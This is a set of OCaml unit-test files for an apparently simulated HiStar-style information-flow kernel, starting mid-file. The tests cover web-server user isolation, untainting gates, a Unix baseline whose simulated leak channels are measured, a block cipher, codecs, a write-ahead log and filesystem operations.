  | None, Some m -> Alcotest.fail ("web world crashed: " ^ m)
  | None, None -> Alcotest.fail "web world did not complete"

(* ---------- web server ---------- *)

let test_serves_own_profile () =
  with_world (fun w ->
      let ws =
        Webserver.start ~proc:w.proc ~dir:w.dir
          ~handler:Webserver.profile_handler
      in
      match
        Webserver.serve_one ws
          {
            Webserver.req_user = "alice";
            req_password = "apw";
            req_path = "/home/alice/profile";
          }
      with
      | Webserver.Ok body ->
          Alcotest.(check string) "alice's data" "alice: ssn 111-11-1111" body
      | Webserver.Denied m -> Alcotest.fail ("denied: " ^ m))

let test_wrong_password_denied () =
  with_world (fun w ->
      let ws =
        Webserver.start ~proc:w.proc ~dir:w.dir
          ~handler:Webserver.profile_handler
      in
      match
        Webserver.serve_one ws
          {
            Webserver.req_user = "alice";
            req_password = "wrong";
            req_path = "/home/alice/profile";
          }
      with
      | Webserver.Ok _ -> Alcotest.fail "authenticated with a wrong password"
      | Webserver.Denied m ->
          Alcotest.(check string) "reason" "bad password" m)

let test_worker_cannot_cross_users () =
  (* the §6.4 property: even *malicious* service code running in
     alice's authenticated worker cannot read bob's data *)
  with_world (fun w ->
      let evil_handler worker_proc _req =
        let fs = Process.fs worker_proc in
        match Fs.read_file fs "/home/bob/profile" with
        | stolen -> Webserver.Ok ("stolen: " ^ stolen)
        | exception Kernel_error (Label_check _) ->
            Webserver.Denied "kernel stopped the cross-user read"
        | exception Kernel_error e -> Webserver.Denied (error_to_string e)
      in
      let ws = Webserver.start ~proc:w.proc ~dir:w.dir ~handler:evil_handler in
      match
        Webserver.serve_one ws
          {
            Webserver.req_user = "alice";
            req_password = "apw";
            req_path = "/home/bob/profile";
          }
      with
      | Webserver.Ok body -> Alcotest.fail ("leak: " ^ body)
      | Webserver.Denied m ->
          Alcotest.(check string) "kernel denial"
            "kernel stopped the cross-user read" m)

let test_two_users_isolated_sessions () =
  with_world (fun w ->
      let ws =
        Webserver.start ~proc:w.proc ~dir:w.dir
          ~handler:Webserver.profile_handler
      in
      let get user pw path =
        Webserver.serve_one ws
          { Webserver.req_user = user; req_password = pw; req_path = path }
      in
      (match get "alice" "apw" "/home/alice/profile" with
      | Webserver.Ok b -> Alcotest.(check bool) "alice ok" true (b <> "")
      | Webserver.Denied m -> Alcotest.fail m);
      (match get "bob" "bpw" "/home/bob/profile" with
      | Webserver.Ok b ->
          Alcotest.(check string) "bob's own data" "bob: ssn 222-22-2222" b
      | Webserver.Denied m -> Alcotest.fail m);
      (* bob's worker cannot serve alice's path *)
      (match get "bob" "bpw" "/home/alice/profile" with
      | Webserver.Ok _ -> Alcotest.fail "bob read alice's profile"
      | Webserver.Denied _ -> ());
      Alcotest.(check int) "served" 3 (Webserver.requests_served ws))

(* ---------- untainting gates (§5.8) ---------- *)

let test_file_create_gate () =
  with_world (fun w ->
      let fs = w.fs in
      ignore (Fs.mkdir fs "/work");
      let v = Sys.cat_create () in
      let gate =
        Untaint.make_file_create_gate ~fs ~container:(Process.container w.proc)
          ~taints:[ v ]
      in
      (* a tainted scratch container for the tainted thread's gate calls *)
      let scratch =
        Sys.container_create ~container:(Process.container w.proc)
          ~label:(Label.of_list [ (v, Level.L3) ] Level.L1)
          ~quota:262_144L "tainted scratch"
      in
      let created = ref None in
      let direct_denied = ref false in
      let child =
        Process.spawn w.proc ~name:"tainted"
          ~extra_label:[ (v, Level.L3) ]
          ~extra_clearance:[ (v, Level.L3) ]
          (fun child ->
            let cfs = Process.fs child in
            (* direct creation in the untainted directory is denied *)
            (match Fs.create cfs "/work/direct" with
            | _ -> ()
            | exception Kernel_error _ -> direct_denied := true);
            (* ... but the category owner's untainting gate allows it *)
            let ce =
              Untaint.create_file_via ~gate ~return_container:scratch
                "/work/via-gate"
            in
            (* and the tainted thread can then write the tainted file *)
            Sys.segment_resize ce 6;
            Sys.segment_write ce "sekret";
            created := Some ce)
      in
      ignore (Process.wait w.proc child);
      Alcotest.(check bool) "direct create denied" true !direct_denied;
      (match !created with
      | None -> Alcotest.fail "gate creation failed"
      | Some ce ->
          (* the name leaked into the directory... *)
          Alcotest.(check bool) "name visible" true (Fs.exists fs "/work/via-gate");
          (* ...but the contents are still protected by the taint *)
          let unprivileged_read = ref None in
          let probe =
            Process.spawn w.proc ~name:"probe" (fun p ->
                ignore p;
                match Sys.segment_read ce () with
                | s -> unprivileged_read := Some s
                | exception Kernel_error _ -> unprivileged_read := None)
          in
          ignore (Process.wait w.proc probe);
          Alcotest.(check (option string)) "contents still tainted" None
            !unprivileged_read))

let test_quota_gate () =
  with_world (fun w ->
      let v = Sys.cat_create () in
      (* a tainted work area with a small sub-object *)
      let area =
        Sys.container_create ~container:(Process.container w.proc)
          ~label:(Label.of_list [ (v, Level.L3) ] Level.L1)
          ~quota:1_048_576L "area"
      in
      let seg =
        Sys.segment_create ~container:area
          ~label:(Label.of_list [ (v, Level.L3) ] Level.L1)
          ~quota:5120L ~len:0 "growing"
      in
      let gate =
        Untaint.make_quota_gate ~container:(Process.container w.proc)
          ~taints:[ v ]
      in
      let grew = ref false in
      let child =
        Process.spawn w.proc ~name:"tainted"
          ~extra_label:[ (v, Level.L3) ]
          ~extra_clearance:[ (v, Level.L3) ]
          (fun _child ->
            (* growth beyond quota fails... *)
            (match Sys.segment_resize (centry area seg) 100_000 with
            | () -> ()
            | exception Kernel_error (Quota _) ->
                (* ...until the owner's quota gate moves some in *)
                Untaint.adjust_quota_via ~gate ~return_container:area
                  ~container:area ~target:seg ~nbytes:131_072L;
                Sys.segment_resize (centry area seg) 100_000;
                grew := true))
      in
      ignore (Process.wait w.proc child);
      Alcotest.(check bool) "grew through the gate" true !grew)

let () =
  Alcotest.run "histar_web"
    [
      ( "webserver",
        [
          Alcotest.test_case "serves own profile" `Quick
            test_serves_own_profile;
          Alcotest.test_case "wrong password" `Quick test_wrong_password_denied;
          Alcotest.test_case "malicious handler contained" `Quick
            test_worker_cannot_cross_users;
          Alcotest.test_case "two users isolated" `Quick
            test_two_users_isolated_sessions;
        ] );
      ( "untaint gates",
        [
          Alcotest.test_case "file creation" `Quick test_file_create_gate;
          Alcotest.test_case "quota adjustment" `Quick test_quota_gate;
        ] );
    ]
