module Disk = Histar_disk.Disk
module Clock = Histar_util.Sim_clock
open Histar_baseline

let geometry = { Disk.sectors = 5_000_000; sector_bytes = 512 }

let mk flavor =
  let clock = Clock.create () in
  let disk = Disk.create ~geometry ~clock () in
  (clock, Unixsim.create flavor ~disk ~clock ())

let test_fs_basics () =
  let _, u = mk Unixsim.Linux in
  Unixsim.creat u ~uid:1 ~mode:0o644 "/f";
  Unixsim.write u ~uid:1 "/f" "hello";
  Alcotest.(check string) "read back" "hello" (Unixsim.read u ~uid:2 "/f");
  Unixsim.unlink u ~uid:1 "/f";
  Alcotest.(check bool) "gone" false (Unixsim.exists u "/f")

let test_dac_modes () =
  let _, u = mk Unixsim.Linux in
  Unixsim.creat u ~uid:1 ~mode:0o600 "/private";
  Unixsim.write u ~uid:1 "/private" "secret";
  Alcotest.(check string) "owner reads" "secret" (Unixsim.read u ~uid:1 "/private");
  (try
     ignore (Unixsim.read u ~uid:2 "/private");
     Alcotest.fail "expected permission denial"
   with Failure _ -> ())

let test_fsync_costs_time () =
  let clock, u = mk Unixsim.Linux in
  Unixsim.creat u ~uid:1 ~mode:0o644 "/f";
  Unixsim.write u ~uid:1 "/f" (String.make 1024 'x');
  let t0 = Clock.now_ns clock in
  Unixsim.fsync u "/f";
  let dt = Int64.sub (Clock.now_ns clock) t0 in
  (* two barriers: at least ~8 ms of simulated time *)
  Alcotest.(check bool)
    (Printf.sprintf "fsync took %Ld ns" dt)
    true
    (dt > 6_000_000L)

let test_mfs_fsync_free () =
  let clock, u = mk Unixsim.Openbsd in
  Unixsim.creat u ~uid:1 ~mode:0o644 "/f";
  Unixsim.write u ~uid:1 "/f" (String.make 1024 'x');
  let t0 = Clock.now_ns clock in
  Unixsim.fsync u "/f";
  let dt = Int64.sub (Clock.now_ns clock) t0 in
  Alcotest.(check bool) "near-free" true (dt < 10_000L)

let test_uncached_read_hits_disk () =
  let clock, u = mk Unixsim.Linux in
  Unixsim.creat u ~uid:1 ~mode:0o644 "/f";
  Unixsim.write u ~uid:1 "/f" (String.make 1024 'x');
  Unixsim.sync_all u;
  let t0 = Clock.now_ns clock in
  ignore (Unixsim.read u ~uid:1 "/f");
  let cached_dt = Int64.sub (Clock.now_ns clock) t0 in
  Unixsim.drop_caches u;
  let t1 = Clock.now_ns clock in
  ignore (Unixsim.read u ~uid:1 "/f");
  let uncached_dt = Int64.sub (Clock.now_ns clock) t1 in
  Alcotest.(check bool)
    (Printf.sprintf "uncached %Ld >> cached %Ld" uncached_dt cached_dt)
    true
    (Int64.compare uncached_dt (Int64.mul 10L cached_dt) > 0)

let test_fork_exec_nine_syscalls () =
  let _, u = mk Unixsim.Linux in
  Unixsim.reset_syscall_count u;
  Unixsim.fork_exec_true u;
  Alcotest.(check int) "9 syscalls" 9 (Unixsim.syscall_count u)

let test_pipe_rtt_time () =
  let clock, u = mk Unixsim.Linux in
  let t0 = Clock.now_ns clock in
  for _ = 1 to 1000 do
    Unixsim.pipe_rtt u
  done;
  let per = Int64.to_float (Int64.sub (Clock.now_ns clock) t0) /. 1000.0 in
  (* paper: 4.32 us on Linux *)
  Alcotest.(check bool)
    (Printf.sprintf "per RTT %.0f ns" per)
    true
    (per > 3_500.0 && per < 5_500.0)

let test_attacks_succeed_here () =
  let _, u = mk Unixsim.Linux in
  let leaks = Unixsim.attack_surface u ~secret:"bob-agi-123456" in
  Alcotest.(check int) "six channels" 6 (List.length leaks);
  List.iter
    (fun l ->
      Alcotest.(check bool)
        (Printf.sprintf "channel %s succeeds on unix" l.Unixsim.channel)
        true l.Unixsim.succeeded)
    leaks;
  Alcotest.(check string) "secret reached the network" "bob-agi-123456"
    (Unixsim.network_sink u);
  Alcotest.(check string) "secret in /tmp" "bob-agi-123456"
    (Unixsim.read u ~uid:0 "/tmp/dead-drop")

let () =
  Alcotest.run "histar_baseline"
    [
      ( "unixsim",
        [
          Alcotest.test_case "fs basics" `Quick test_fs_basics;
          Alcotest.test_case "dac modes" `Quick test_dac_modes;
          Alcotest.test_case "fsync cost" `Quick test_fsync_costs_time;
          Alcotest.test_case "mfs fsync free" `Quick test_mfs_fsync_free;
          Alcotest.test_case "uncached read" `Quick test_uncached_read_hits_disk;
          Alcotest.test_case "fork/exec syscalls" `Quick
            test_fork_exec_nine_syscalls;
          Alcotest.test_case "pipe rtt" `Quick test_pipe_rtt_time;
          Alcotest.test_case "attacks succeed" `Quick test_attacks_succeed_here;
        ] );
    ]
