open Histar_crypto

let test_encrypt_decrypt_64 () =
  let c = Block_cipher.create ~key:0xdeadbeefL in
  List.iter
    (fun v ->
      Alcotest.(check int64) "decrypt . encrypt = id" v
        (Block_cipher.decrypt64 c (Block_cipher.encrypt64 c v)))
    [ 0L; 1L; -1L; 42L; Int64.max_int; Int64.min_int; 0x123456789abcdefL ]

let test_encrypt61_range () =
  let c = Block_cipher.create ~key:1L in
  for i = 0 to 999 do
    let v = Block_cipher.encrypt61 c (Int64.of_int i) in
    if v < 0L || v > Block_cipher.max61 then Alcotest.fail "out of 61-bit range"
  done

let test_encrypt61_inverse () =
  let c = Block_cipher.create ~key:99L in
  for i = 0 to 499 do
    let v = Int64.of_int (i * 7919) in
    Alcotest.(check int64) "61-bit inverse" v
      (Block_cipher.decrypt61 c (Block_cipher.encrypt61 c v))
  done

let test_encrypt61_injective_prefix () =
  let c = Block_cipher.create ~key:5L in
  let seen = Hashtbl.create 1024 in
  for i = 0 to 9999 do
    let v = Block_cipher.encrypt61 c (Int64.of_int i) in
    if Hashtbl.mem seen v then Alcotest.fail "collision in cipher output";
    Hashtbl.add seen v ()
  done

let test_keys_differ () =
  let a = Block_cipher.create ~key:1L and b = Block_cipher.create ~key:2L in
  let same = ref 0 in
  for i = 0 to 99 do
    if
      Int64.equal
        (Block_cipher.encrypt64 a (Int64.of_int i))
        (Block_cipher.encrypt64 b (Int64.of_int i))
    then incr same
  done;
  Alcotest.(check bool) "different keys give different streams" true (!same < 3)

let test_category_gen_fresh () =
  let g = Category_gen.create ~key:7L in
  let seen = Hashtbl.create 1024 in
  for _ = 1 to 5000 do
    let v = Category_gen.next g in
    if v < 0L || v > Block_cipher.max61 then Alcotest.fail "out of range";
    if Hashtbl.mem seen v then Alcotest.fail "repeated category name";
    Hashtbl.add seen v ()
  done;
  Alcotest.(check int) "allocated count" 5000 (Category_gen.allocated g)

let test_category_gen_opaque () =
  (* Consecutive names should not be consecutive numbers: the cipher hides
     the counter. *)
  let g = Category_gen.create ~key:11L in
  let a = Category_gen.next g in
  let b = Category_gen.next g in
  Alcotest.(check bool) "names not sequential" true
    (Int64.abs (Int64.sub b a) > 1L)

let prop_cipher_bijective =
  QCheck2.Test.make ~name:"encrypt64 is invertible" ~count:500 QCheck2.Gen.int64
    (fun v ->
      let c = Block_cipher.create ~key:0x1234L in
      Int64.equal (Block_cipher.decrypt64 c (Block_cipher.encrypt64 c v)) v)

let () =
  Alcotest.run "histar_crypto"
    [
      ( "block_cipher",
        [
          Alcotest.test_case "encrypt/decrypt 64" `Quick test_encrypt_decrypt_64;
          Alcotest.test_case "61-bit range" `Quick test_encrypt61_range;
          Alcotest.test_case "61-bit inverse" `Quick test_encrypt61_inverse;
          Alcotest.test_case "injective" `Quick test_encrypt61_injective_prefix;
          Alcotest.test_case "key separation" `Quick test_keys_differ;
          QCheck_alcotest.to_alcotest prop_cipher_bijective;
        ] );
      ( "category_gen",
        [
          Alcotest.test_case "fresh names" `Quick test_category_gen_fresh;
          Alcotest.test_case "opaque names" `Quick test_category_gen_opaque;
        ] );
    ]
