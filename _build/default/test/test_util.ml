open Histar_util

let check_int = Alcotest.(check int)
let check_str = Alcotest.(check string)

(* Codec round-trips *)

let test_codec_scalars () =
  let e = Codec.Enc.create () in
  Codec.Enc.u8 e 0xab;
  Codec.Enc.u16 e 0xbeef;
  Codec.Enc.u32 e 0x1234567;
  Codec.Enc.i64 e (-42L);
  Codec.Enc.int e 123456789;
  Codec.Enc.bool e true;
  Codec.Enc.bool e false;
  let d = Codec.Dec.of_string (Codec.Enc.to_string e) in
  check_int "u8" 0xab (Codec.Dec.u8 d);
  check_int "u16" 0xbeef (Codec.Dec.u16 d);
  check_int "u32" 0x1234567 (Codec.Dec.u32 d);
  Alcotest.(check int64) "i64" (-42L) (Codec.Dec.i64 d);
  check_int "int" 123456789 (Codec.Dec.int d);
  Alcotest.(check bool) "bool t" true (Codec.Dec.bool d);
  Alcotest.(check bool) "bool f" false (Codec.Dec.bool d);
  Alcotest.(check bool) "at_end" true (Codec.Dec.at_end d)

let test_codec_str_list () =
  let e = Codec.Enc.create () in
  Codec.Enc.str e "hello";
  Codec.Enc.str e "";
  Codec.Enc.list e Codec.Enc.int [ 1; 2; 3 ];
  Codec.Enc.option e Codec.Enc.str (Some "x");
  Codec.Enc.option e Codec.Enc.str None;
  Codec.Enc.pair e Codec.Enc.int Codec.Enc.str (7, "y");
  let d = Codec.Dec.of_string (Codec.Enc.to_string e) in
  check_str "str" "hello" (Codec.Dec.str d);
  check_str "empty" "" (Codec.Dec.str d);
  Alcotest.(check (list int)) "list" [ 1; 2; 3 ] (Codec.Dec.list d Codec.Dec.int);
  Alcotest.(check (option string)) "some" (Some "x") (Codec.Dec.option d Codec.Dec.str);
  Alcotest.(check (option string)) "none" None (Codec.Dec.option d Codec.Dec.str);
  let a, b = Codec.Dec.pair d Codec.Dec.int Codec.Dec.str in
  check_int "pair fst" 7 a;
  check_str "pair snd" "y" b

let test_codec_truncated () =
  let d = Codec.Dec.of_string "\x01" in
  Alcotest.check_raises "short i64" Codec.Truncated (fun () ->
      ignore (Codec.Dec.i64 d));
  let d = Codec.Dec.of_string "\x05\x00\x00\x00ab" in
  Alcotest.check_raises "short str" Codec.Truncated (fun () ->
      ignore (Codec.Dec.str d));
  let d = Codec.Dec.of_string "\x02" in
  Alcotest.check_raises "bad bool" Codec.Truncated (fun () ->
      ignore (Codec.Dec.bool d))

let prop_codec_string_roundtrip =
  QCheck2.Test.make ~name:"codec string round-trip" ~count:200
    QCheck2.Gen.(string_size (int_bound 64))
    (fun s ->
      let e = Codec.Enc.create () in
      Codec.Enc.str e s;
      let d = Codec.Dec.of_string (Codec.Enc.to_string e) in
      String.equal (Codec.Dec.str d) s)

let prop_codec_int_list_roundtrip =
  QCheck2.Test.make ~name:"codec int list round-trip" ~count:200
    QCheck2.Gen.(list_size (int_bound 32) int)
    (fun l ->
      let e = Codec.Enc.create () in
      Codec.Enc.list e Codec.Enc.int l;
      let d = Codec.Dec.of_string (Codec.Enc.to_string e) in
      Codec.Dec.list d Codec.Dec.int = l)

(* Rng *)

let test_rng_deterministic () =
  let a = Rng.create 42L and b = Rng.create 42L in
  for _ = 1 to 100 do
    Alcotest.(check int64) "same stream" (Rng.next64 a) (Rng.next64 b)
  done

let test_rng_bounds () =
  let r = Rng.create 7L in
  for _ = 1 to 1000 do
    let v = Rng.int r 10 in
    if v < 0 || v >= 10 then Alcotest.fail "out of bounds"
  done

let test_rng_split_independent () =
  let a = Rng.create 1L in
  let b = Rng.split a in
  let x = Rng.next64 a and y = Rng.next64 b in
  Alcotest.(check bool) "distinct streams" true (not (Int64.equal x y))

let test_rng_bytes_len () =
  let r = Rng.create 3L in
  check_int "len" 17 (String.length (Rng.bytes r 17))

(* Sim_clock *)

let test_clock () =
  let c = Sim_clock.create () in
  Alcotest.(check int64) "starts at 0" 0L (Sim_clock.now_ns c);
  Sim_clock.advance_ns c 500L;
  Sim_clock.advance_us c 1.0;
  Sim_clock.advance_ms c 2.0;
  Alcotest.(check int64) "sum" 2_001_500L (Sim_clock.now_ns c);
  Alcotest.(check int64) "elapsed" 2_001_000L (Sim_clock.elapsed_since_ns c 500L);
  Alcotest.(check (float 1e-12)) "seconds" 2.0015e-3
    (Sim_clock.to_seconds (Sim_clock.now_ns c))

let () =
  let qc = List.map QCheck_alcotest.to_alcotest in
  Alcotest.run "histar_util"
    [
      ( "codec",
        [
          Alcotest.test_case "scalars" `Quick test_codec_scalars;
          Alcotest.test_case "strings and containers" `Quick test_codec_str_list;
          Alcotest.test_case "truncated input" `Quick test_codec_truncated;
        ]
        @ qc [ prop_codec_string_roundtrip; prop_codec_int_list_roundtrip ] );
      ( "rng",
        [
          Alcotest.test_case "deterministic" `Quick test_rng_deterministic;
          Alcotest.test_case "bounds" `Quick test_rng_bounds;
          Alcotest.test_case "split" `Quick test_rng_split_independent;
          Alcotest.test_case "bytes" `Quick test_rng_bytes_len;
        ] );
      ("clock", [ Alcotest.test_case "advance" `Quick test_clock ]);
    ]
