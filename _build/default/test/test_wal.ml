open Histar_wal
module Disk = Histar_disk.Disk
module Clock = Histar_util.Sim_clock

let geometry = { Disk.sectors = 100_000; sector_bytes = 512 }

let mk () =
  let clock = Clock.create () in
  Disk.create ~geometry ~clock ()

let test_format_recover_empty () =
  let disk = mk () in
  let _ = Wal.format ~disk ~start:1 ~sectors:128 in
  let wal, records = Wal.recover ~disk ~start:1 ~sectors:128 in
  Alcotest.(check (list string)) "no records" [] records;
  Alcotest.(check int) "committed" 0 (Wal.committed_records wal)

let test_commit_then_recover () =
  let disk = mk () in
  let wal = Wal.format ~disk ~start:1 ~sectors:128 in
  Wal.append wal "first";
  Wal.append wal "second record, somewhat longer than a few bytes";
  Wal.commit wal;
  Wal.append wal "third";
  Wal.commit wal;
  let _, records = Wal.recover ~disk ~start:1 ~sectors:128 in
  Alcotest.(check (list string))
    "all committed records in order"
    [ "first"; "second record, somewhat longer than a few bytes"; "third" ]
    records

let test_uncommitted_lost () =
  let disk = mk () in
  let wal = Wal.format ~disk ~start:1 ~sectors:128 in
  Wal.append wal "durable";
  Wal.commit wal;
  Wal.append wal "volatile";
  Alcotest.(check int) "pending" 1 (Wal.pending_records wal);
  (* no commit: a recovery (fresh handle over same media) must not see it *)
  Disk.flush disk;
  (* flushing the *disk* alone does not commit the wal buffer *)
  let _, records = Wal.recover ~disk ~start:1 ~sectors:128 in
  Alcotest.(check (list string)) "only committed" [ "durable" ] records

let test_truncate () =
  let disk = mk () in
  let wal = Wal.format ~disk ~start:1 ~sectors:128 in
  Wal.append wal "old";
  Wal.commit wal;
  Wal.truncate wal;
  Wal.append wal "new";
  Wal.commit wal;
  let _, records = Wal.recover ~disk ~start:1 ~sectors:128 in
  Alcotest.(check (list string)) "only new epoch" [ "new" ] records

let test_log_full () =
  let disk = mk () in
  let wal = Wal.format ~disk ~start:1 ~sectors:8 in
  let big = String.make 2048 'x' in
  Wal.append wal big;
  (* 2048 bytes + header = 5 sectors; region has 7 free; second append
     cannot fit. *)
  Alcotest.check_raises "log full" Wal.Log_full (fun () -> Wal.append wal big);
  Wal.commit wal;
  Wal.truncate wal;
  Wal.append wal big (* fits again after truncate *)

let test_empty_commit_noop () =
  let disk = mk () in
  let wal = Wal.format ~disk ~start:1 ~sectors:64 in
  let before = (Disk.stats disk).Disk.flushes in
  Wal.commit wal;
  Alcotest.(check int) "no flush for empty commit" before
    (Disk.stats disk).Disk.flushes

let test_crash_mid_commit () =
  let disk = mk () in
  let wal = Wal.format ~disk ~start:1 ~sectors:128 in
  Wal.append wal "safe";
  Wal.commit wal;
  Wal.append wal (String.make 4096 'y');
  Disk.set_crash_after_writes disk 2;
  (try
     Wal.commit wal;
     Alcotest.fail "expected crash"
   with Disk.Crashed -> ());
  let disk' = Disk.reopen_after_crash disk in
  let _, records = Wal.recover ~disk:disk' ~start:1 ~sectors:128 in
  Alcotest.(check (list string)) "torn record discarded" [ "safe" ] records

let test_binary_payloads () =
  let disk = mk () in
  let wal = Wal.format ~disk ~start:1 ~sectors:128 in
  let rng = Histar_util.Rng.create 5L in
  let payloads = List.init 10 (fun i -> Histar_util.Rng.bytes rng (i * 97)) in
  List.iter (Wal.append wal) payloads;
  Wal.commit wal;
  let _, records = Wal.recover ~disk ~start:1 ~sectors:128 in
  Alcotest.(check (list string)) "binary round-trip" payloads records

let prop_commit_prefix =
  (* After any sequence of append/commit, recovery returns exactly the
     committed prefix. *)
  QCheck2.Test.make ~name:"recovery = committed prefix" ~count:100
    QCheck2.Gen.(list_size (int_bound 30) (pair (string_size (int_bound 100)) bool))
    (fun ops ->
      let disk = mk () in
      let wal = Wal.format ~disk ~start:1 ~sectors:4096 in
      let committed = ref [] and pending = ref [] in
      List.iter
        (fun (payload, do_commit) ->
          Wal.append wal payload;
          pending := payload :: !pending;
          if do_commit then begin
            Wal.commit wal;
            committed := !pending @ !committed;
            pending := []
          end)
        ops;
      let _, records = Wal.recover ~disk ~start:1 ~sectors:4096 in
      records = List.rev !committed)

let () =
  Alcotest.run "histar_wal"
    [
      ( "wal",
        [
          Alcotest.test_case "format/recover empty" `Quick
            test_format_recover_empty;
          Alcotest.test_case "commit then recover" `Quick
            test_commit_then_recover;
          Alcotest.test_case "uncommitted lost" `Quick test_uncommitted_lost;
          Alcotest.test_case "truncate" `Quick test_truncate;
          Alcotest.test_case "log full" `Quick test_log_full;
          Alcotest.test_case "empty commit no-op" `Quick test_empty_commit_noop;
          Alcotest.test_case "crash mid-commit" `Quick test_crash_mid_commit;
          Alcotest.test_case "binary payloads" `Quick test_binary_payloads;
          QCheck_alcotest.to_alcotest prop_commit_prefix;
        ] );
    ]
