module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
open Histar_core.Types
open Histar_unix
open Histar_label

let l1 = Label.make Level.L1

(* Run [f] in a fresh kernel with a formatted FS and a boot process. *)
let in_unix f =
  let k = Kernel.create () in
  let result = ref None in
  let failure = ref None in
  let _tid =
    Kernel.spawn k ~name:"init" (fun () ->
        let fs = Fs.format_root ~container:(Kernel.root k) ~label:l1 in
        let proc = Process.boot ~fs ~container:(Kernel.root k) ~name:"init" () in
        match f k proc with
        | v -> result := Some v
        | exception e -> failure := Some (Printexc.to_string e))
  in
  Kernel.run k;
  match (!result, !failure) with
  | Some v, _ -> v
  | None, Some msg -> Alcotest.fail ("init crashed: " ^ msg)
  | None, None -> Alcotest.fail "init did not complete"

let join pred =
  let tries = ref 0 in
  while (not (pred ())) && !tries < 50_000 do
    incr tries;
    Sys.yield ()
  done;
  if not (pred ()) then Alcotest.fail "join: condition never became true"

(* ---------- path handling ---------- *)

let test_split_path () =
  Alcotest.(check (list string)) "plain" [ "a"; "b" ] (Fs.split_path "/a/b");
  Alcotest.(check (list string)) "dots and slashes" [ "a"; "b" ]
    (Fs.split_path "//a/./b/");
  Alcotest.(check (list string)) "root" [] (Fs.split_path "/")

(* ---------- files and directories ---------- *)

let test_mkdir_create_read () =
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/tmp");
      Fs.write_file fs "/tmp/hello.txt" "hello world";
      Alcotest.(check string) "read back" "hello world"
        (Fs.read_file fs "/tmp/hello.txt");
      Alcotest.(check bool) "exists" true (Fs.exists fs "/tmp/hello.txt");
      Alcotest.(check bool) "is_dir" true (Fs.is_dir fs "/tmp");
      Alcotest.(check int) "size" 11 (Fs.file_size fs "/tmp/hello.txt"))

let test_nested_dirs () =
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/a");
      ignore (Fs.mkdir fs "/a/b");
      ignore (Fs.mkdir fs "/a/b/c");
      Fs.write_file fs "/a/b/c/deep.txt" "deep";
      Alcotest.(check string) "nested read" "deep"
        (Fs.read_file fs "/a/b/c/deep.txt");
      let names =
        List.map (fun e -> e.Dirseg.name) (Fs.readdir fs "/a/b")
      in
      Alcotest.(check (list string)) "listing" [ "c" ] names)

let test_readdir_and_unlink () =
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/d");
      List.iter (fun n -> Fs.write_file fs ("/d/" ^ n) n) [ "x"; "y"; "z" ];
      Alcotest.(check int) "three entries" 3 (List.length (Fs.readdir fs "/d"));
      Fs.unlink fs "/d/y";
      let names = List.map (fun e -> e.Dirseg.name) (Fs.readdir fs "/d") in
      Alcotest.(check (list string)) "after unlink" [ "x"; "z" ] names;
      Alcotest.(check bool) "gone" false (Fs.exists fs "/d/y"))

let test_unlink_frees_objects () =
  in_unix (fun k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/dying");
      Fs.write_file fs "/dying/f" "data";
      let before = Kernel.object_count k in
      Fs.unlink fs "/dying";
      (* directory container + dirseg + file all freed *)
      Alcotest.(check int) "objects freed" (before - 3) (Kernel.object_count k))

let test_rename_same_dir () =
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/r");
      Fs.write_file fs "/r/old" "contents";
      Fs.rename fs ~src:"/r/old" ~dst:"/r/new";
      Alcotest.(check bool) "old gone" false (Fs.exists fs "/r/old");
      Alcotest.(check string) "new has data" "contents"
        (Fs.read_file fs "/r/new"))

let test_rename_cross_dir () =
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/src");
      ignore (Fs.mkdir fs "/dst");
      Fs.write_file fs "/src/f" "moved";
      Fs.rename fs ~src:"/src/f" ~dst:"/dst/g";
      Alcotest.(check string) "moved" "moved" (Fs.read_file fs "/dst/g");
      Alcotest.(check bool) "source gone" false (Fs.exists fs "/src/f"))

let test_hard_link () =
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/l1");
      ignore (Fs.mkdir fs "/l2");
      Fs.write_file fs "/l1/f" "shared";
      Fs.link fs ~src:"/l1/f" ~dst:"/l2/f2";
      Alcotest.(check string) "via link" "shared" (Fs.read_file fs "/l2/f2");
      Fs.unlink fs "/l1/f";
      Alcotest.(check string) "still alive through second link" "shared"
        (Fs.read_file fs "/l2/f2"))

let test_big_file_quota_autogrow () =
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/big");
      (* far larger than the default file and directory quotas *)
      let data = String.make 20_000_000 'q' in
      Fs.write_file fs "/big/file" data;
      Alcotest.(check int) "20MB written" 20_000_000
        (Fs.file_size fs "/big/file"))

let test_mounts () =
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/mnt");
      ignore (Fs.mkdir fs "/other");
      Fs.write_file fs "/other/inside" "via mount";
      (match Fs.lookup fs "/other" with
      | Some n -> Fs.mount fs ~path:"/mnt/disk" n.Fs.oid
      | None -> Alcotest.fail "no /other");
      Alcotest.(check string) "read through mount" "via mount"
        (Fs.read_file fs "/mnt/disk/inside");
      Fs.unmount fs ~path:"/mnt/disk";
      Alcotest.(check bool) "unmounted" false (Fs.exists fs "/mnt/disk/inside"))

let test_private_files_kernel_enforced () =
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      let user = Users.create_user ~fs ~name:"bob" in
      Fs.write_file fs "/home/bob/secret" "bob's diary";
      (* bob (this thread owns ur/uw after create_user) can read *)
      Alcotest.(check string) "owner reads" "bob's diary"
        (Fs.read_file fs "/home/bob/secret");
      (* an unprivileged process cannot *)
      let denied = ref false in
      let child =
        Process.spawn proc ~name:"snoop" ~user:(Users.create_user ~fs ~name:"eve")
          (fun snoop ->
            let sfs = Process.fs snoop in
            match Fs.read_file sfs "/home/bob/secret" with
            | _ -> ()
            | exception Kernel_error (Label_check _) -> denied := true)
      in
      ignore (Process.wait proc child);
      Alcotest.(check bool) "kernel denied eve" true !denied;
      ignore user)

(* ---------- fd layer ---------- *)

let test_fd_read_write_seek () =
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/f");
      let fd = Process.create_file proc "/f/data" in
      ignore (Process.write proc fd "abcdefgh");
      Process.seek proc fd 2;
